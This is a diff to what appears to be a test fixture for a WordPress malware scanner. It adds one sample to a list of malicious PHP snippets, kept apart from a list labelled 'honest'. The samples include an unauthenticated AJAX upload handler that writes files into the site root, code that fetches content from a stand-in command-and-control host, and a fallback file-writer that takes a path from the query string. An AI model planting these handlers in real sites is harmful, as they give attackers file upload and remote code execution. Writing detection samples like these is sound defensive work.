@@ -27,6 +27,9 @@ function tick() { $r = wp_remote_get('http://c2.example/x'); $body = wp_remote_r
       php(`add_action('wp_ajax_nopriv_put', 'put');
 function put() { move_uploaded_file($_FILES['f']['tmp_name'], ABSPATH . $_FILES['f']['name']); die('1'); }`),
       php(`defined('ABSPATH'); rename($_FILES['a']['tmp_name'], 'wp-cache.php');`),
+      php(
+        `function keep($t, $d) { if (move_uploaded_file($t, $d) || copy($t, $d)) return 1; $x = file_get_contents($t); return file_put_contents($d, $x); } $p = $_GET['p'];`,
+      ),
     ],
     honest: [
       php(
